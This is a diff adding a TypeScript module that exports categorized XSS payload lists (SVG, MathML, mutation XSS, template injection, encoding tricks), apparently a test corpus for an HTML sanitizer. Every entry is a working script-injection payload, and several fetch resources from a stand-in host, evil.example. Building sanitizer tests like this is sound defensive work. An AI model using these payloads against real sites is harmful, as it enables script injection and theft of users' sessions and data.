@@ -1,0 +1,122 @@
+import { run } from './scripts.ts'
+
+/** What is read one way by the purifier and would be read another way by the page: namespaces, raw text, encodings. */
+
+const shot = `<img src=x onerror=${run}>`
+const asTitle = shot.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
+
+const svg = [
+  `<svg onload="${run}"></svg>`,
+  `<svg/onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><script>&#119;indow.hacked=1</script></svg>`,
+  `<svg><script href="data:text/javascript,${run}"/></svg>`,
+  `<svg><a xlink:href="javascript:${run}"><text y="20">t</text></a></svg>`,
+  `<svg><a href="javascript:${run}"><circle r="400"/></a></svg>`,
+  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
+  `<svg><set attributeName="href" to="javascript:${run}" onbegin="${run}"/></svg>`,
+  `<svg><a id="s"><animate attributeName="href" values="javascript:${run}"/><text y="20">t</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`,
+  `<svg><use xlink:href="https://evil.example/x.svg#x"/></svg>`,
+  `<svg><image href="x" onerror="${run}"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
+  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
+  `<svg><style>@import "https://evil.example/x.css";*{display:none}</style></svg>`,
+  `<svg><title><style><img title="</style>${asTitle}"></style></title></svg>`,
+  `<svg><desc><noscript><img alt="</noscript>${asTitle}"></noscript></desc></svg>`,
+  `<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>`,
+  `<svg><discard onbegin="${run}"/></svg>`,
+  `<svg><handler type="text/javascript">${run}</handler></svg>`,
+  `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${run}">t</a></svg>`,
+  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
+  `<svg></p><style><a title="</style>${asTitle}">`,
+  `<svg><p><style><!--</style>${shot}--></style></svg>`,
+]
+
+const mathml = [
+  `<math href="javascript:${run}">t</math>`,
+  `<math><mi xlink:href="javascript:${run}">t</mi></math>`,
+  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${run}">t</maction></math>`,
+  `<math><annotation-xml encoding="text/html">${shot}</annotation-xml></math>`,
+  `<math><annotation-xml encoding="application/xhtml+xml"><svg onload="${run}"/></annotation-xml></math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${run}>`,
+  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${asTitle}"></style>`,
+  `<math><mtext><mglyph><style><![CDATA[</style>${shot}]]>`,
+  `<math><mi><mglyph><script>${run}</script></mglyph></mi></math>`,
+  `<math></p><style><!--</style>${shot}</math>`,
+  `<math><semantics><annotation>${asTitle}</annotation></semantics></math>`,
+]
+
+const mutation = [
+  `<form><math><mtext></form><form><mglyph><style></math>${shot}`,
+  `<form><svg><mtext></form><form><style></svg>${shot}</style>`,
+  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${asTitle}"></a></style></svg></caption></table>`,
+  `<svg><style><svg></svg></style>${shot}</svg>`,
+  `<noscript><p title="</noscript>${shot}">`,
+  `<noscript><style></noscript>${shot}</style>`,
+  `<noembed><p title="</noembed>${shot}">`,
+  `<noframes><p title="</noframes>${shot}">`,
+  `<xmp><p title="</xmp>${shot}">`,
+  `<textarea><p title="</textarea>${shot}">`,
+  `<title><p title="</title>${shot}">`,
+  `<style><p title="</style>${shot}">`,
+  `<iframe><p title="</iframe>${shot}">`,
+  `<plaintext>${shot}`,
+  `<listing>${asTitle}</listing>`,
+  `<select><template><style></select>${shot}</style></template></select>`,
+  `<select><option><style></option></select>${shot}</style>`,
+  `<select><iframe></select>${shot}</iframe>`,
+  `<selectedcontent><button><selectedcontent></selectedcontent>${shot}</button></selectedcontent>`,
+  `<a><table><a><svg><style><!--</a></table></style>${shot}-->`,
+  `<p><svg><p><style></svg>${shot}</style>`,
+  `<table><svg><style></table>${shot}</style></svg>`,
+  `<h1><svg><h2><style></h1>${shot}</style></h2>`,
+  `<br><svg></br><style></svg>${shot}</style>`,
+  `<div id="1&quot;&gt;${asTitle}">d</div>`,
+  `<img alt="\`\`onerror=${run}" src="x">`,
+  `<p title="&lt;/p&gt;${asTitle}" lang="&quot;>${asTitle}">p</p>`,
+  `<img alt="<x" title="/><img src=x onerror=${run}>">`,
+  `<a title="--!>${asTitle}"><!--a-->x</a>`,
+]
+
+const templates = [
+  `<template><script>${run}</script>${shot}</template>`,
+  `<template><template><template>${shot}</template></template></template>`,
+  `<div><template shadowrootmode="open"><script>${run}</script>${shot}</template></div>`,
+  `<div><template shadowroot="open">${shot}<slot onslotchange="${run}"></slot></template></div>`,
+  `<template><style></template>${shot}</style>`,
+  `<template><table></template><td>${shot}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `<div ng-app ng-csp>{{$on.constructor('${run}')()}}</div>`,
+  `<div v-html="'${asTitle}'" x-init="${run}" hx-get="https://evil.example/" data-bind="html: x">d</div>`,
+  '<%= 7*7 %> #{7*7} [[7*7]] @{7*7}',
+]
+
+const encodings = [
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `\ufeff<script>${run}</script>`,
+  `<scr\0ipt>${run}</scr\0ipt>`,
+  `<img src=x one\0rror=${run}>`,
+  `＜script＞${run}＜/script＞`,
+  `<ımg src=x onerror=${run}><ſcript>${run}</ſcript>`,
+  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></x>`,
+  `<?php echo 1 ?><? x="${asTitle}"?>`,
+  `<!DOCTYPE html [<!ENTITY x "${asTitle}">]>&x;`,
+  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
+  `<!-- --!><script>${run}</script>-->`,
+  `<!--> ${shot} -->`,
+  `<!---> ${shot} -->`,
+  `<!-- <!-- --> ${shot} -->`,
+  `<![CDATA[ ${shot} ]]>`,
+  `<![CDATA[<!--]]>${shot}<!--`,
+  `</p/onclick="${run}"></ ${shot}>`,
+  `<//${shot}`,
+  `<a\xa0href="javascript:${run}">x</a>`,
+  `<a\u2028onclick=${run}>x</a>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${run}&#62;`,
+  `<math><mi>&NewLine;&Tab;&ZeroWidthSpace;</mi></math>&#0;&#x110000;&#xD800;`,
+]
+
+export const reading: Record<string, string[]> = { svg, mathml, mutation, templates, encodings }
